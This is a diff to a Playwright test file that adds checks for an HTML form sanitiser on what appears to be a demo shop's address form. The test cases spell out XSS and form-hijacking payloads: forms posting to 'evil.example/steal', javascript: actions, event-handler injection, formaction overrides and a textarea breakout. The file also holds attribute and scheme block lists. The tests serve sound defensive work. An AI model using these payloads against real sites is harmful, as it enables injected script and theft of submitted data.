@@ -1,5 +1,6 @@
 import { chromium, expect, test, type Browser, type Page } from '@playwright/test';
 import { build, type Plugin } from 'esbuild';
+import { addressForm } from '../../demo-pages/backend/routes/addresses';
 import { HOSTILE_HTML } from '../../demo-pages/backend/seed/products';
 import { chromiumLaunchOptions } from '../chromium';
 
@@ -30,7 +31,7 @@ interface Inspection {
 
 declare global {
   interface Window {
-    shopSanitize: { sanitizeHtml(html: string): string };
+    shopSanitize: { sanitizeHtml(html: string): string; sanitizeFormHtml(html: string): string };
     pwned: boolean;
     pwn(): void;
   }
@@ -69,10 +70,10 @@ async function openPage(script: string): Promise<Page> {
 }
 
 /** Sanitise in the page, put the result into the live document, and report what is there. */
-function inspect(html: string, on: Page = page): Promise<Inspection> {
-  return on.evaluate(async (dirty) => {
+function inspect(html: string, on: Page = page, profile: 'sanitizeHtml' | 'sanitizeFormHtml' = 'sanitizeHtml'): Promise<Inspection> {
+  return on.evaluate(async ({ dirty, profile }) => {
     window.pwned = false;
-    const clean = window.shopSanitize.sanitizeHtml(dirty);
+    const clean = window.shopSanitize[profile](dirty);
     const host = document.createElement('div');
     host.innerHTML = clean;
     document.body.append(host);
@@ -92,7 +93,7 @@ function inspect(html: string, on: Page = page): Promise<Inspection> {
     };
     host.remove();
     return result;
-  }, html);
+  }, { dirty: html, profile });
 }
 
 function expectHarmless(result: Inspection) {
@@ -241,6 +242,55 @@ test.describe('sanitizeHtml in Chromium', () => {
       '5 &lt; 6 &amp; "tea"',
     );
   });
+});
+
+test.describe('sanitizeFormHtml in Chromium (the server\'s address form)', () => {
+  const FORM_TAGS = new Set(['form', 'fieldset', 'legend', 'label', 'input', 'select', 'option', 'optgroup', 'textarea', 'button', 'div', 'p', 'span', 'small', 'strong', 'em', 'br']);
+  const inspectForm = (html: string) => inspect(html, page, 'sanitizeFormHtml');
+
+  function expectHarmlessForm(result: Inspection) {
+    expect(result.pwned, result.html).toBe(false);
+    for (const tag of result.tags) expect(FORM_TAGS.has(tag), `<${tag}> in ${result.html}`).toBe(true);
+    for (const attribute of result.attributes) {
+      expect(attribute.startsWith('on'), `${attribute} in ${result.html}`).toBe(false);
+      expect(['style', 'formaction', 'src', 'href', 'srcdoc'], result.html).not.toContain(attribute);
+    }
+    // A form posts to this site only.
+    for (const url of result.urls) expect(url, result.html).toMatch(/^\/(?![/\\])/);
+    expect(result.html).not.toMatch(/javascript:|data:|vbscript:/i);
+  }
+
+  test('keeps the reference backend\'s address form whole: its fields, labels, action and method', async () => {
+    const form = addressForm({ id: 2, name: 'Nimal', email: null, mobile: '94771234567', mobile_verified: true, is_admin: false, is_guest: false });
+    const result = await inspectForm(form);
+    expectHarmlessForm(result);
+    expect(result.html).toContain('<form method="post" action="/user/address/store" novalidate="">');
+    for (const name of ['nickname', 'receiver_phone_number', 'street', 'city', 'state', 'postal_code', 'country', 'is_primary']) {
+      expect(result.html).toContain(`name="${name}"`);
+      expect(result.html).toContain(`for="address-form-${name}"`);
+    }
+    expect(result.html).toContain('<button type="submit">');
+    expect(result.html).toContain('value="+94 77 123 4567"');
+  });
+
+  for (const [name, html, kept] of [
+    ['another site\'s action', '<form action="https://evil.example/steal" method="post"><input name="street"></form>', '<form method="post"><input name="street"></form>'],
+    ['a protocol-relative action', '<form action="//evil.example/steal"><input name="street"></form>', '<form><input name="street"></form>'],
+    ['a backslash action', '<form action="/\\evil.example/steal"><input name="street"></form>', '<form><input name="street"></form>'],
+    ['a javascript: action', '<form action="javascript:pwn()"><input name="street"></form>', '<form><input name="street"></form>'],
+    ['a dialog method', '<form action="/ok" method="dialog"><input name="street"></form>', '<form action="/ok"><input name="street"></form>'],
+    ['handlers and autofocus', '<form action="/ok" onsubmit="pwn()"><input name="street" onfocus="pwn()" autofocus></form>', '<form action="/ok"><input name="street"></form>'],
+    ['a formaction button', '<form action="/ok"><button formaction="https://evil.example" type="submit">Save</button></form>', '<form action="/ok"><button type="submit">Save</button></form>'],
+    ['file, image and colour fields', '<form action="/ok"><input type="file" name="f"><input type="image" src="/x.png"><input type="color" name="c"><input name="street"></form>', '<form action="/ok"><input name="street"></form>'],
+    ['scripts, styles and images', '<form action="/ok"><script>pwn()</script><style>input{}</style><img src="x" onerror="pwn()"><input name="street" style="color:red"></form>', '<form action="/ok"><input name="street"></form>'],
+    ['a textarea breakout', '<form action="/ok"><textarea name="t"></textarea><img src=x onerror=pwn()></textarea></form>', '<form action="/ok"><textarea name="t"></textarea></form>'],
+  ] as const) {
+    test(`removes ${name}`, async () => {
+      const result = await inspectForm(html);
+      expectHarmlessForm(result);
+      expect(result.html).toBe(kept);
+    });
+  }
 });
 
 test.describe('sanitizeHtml where DOMPurify cannot work', () => {
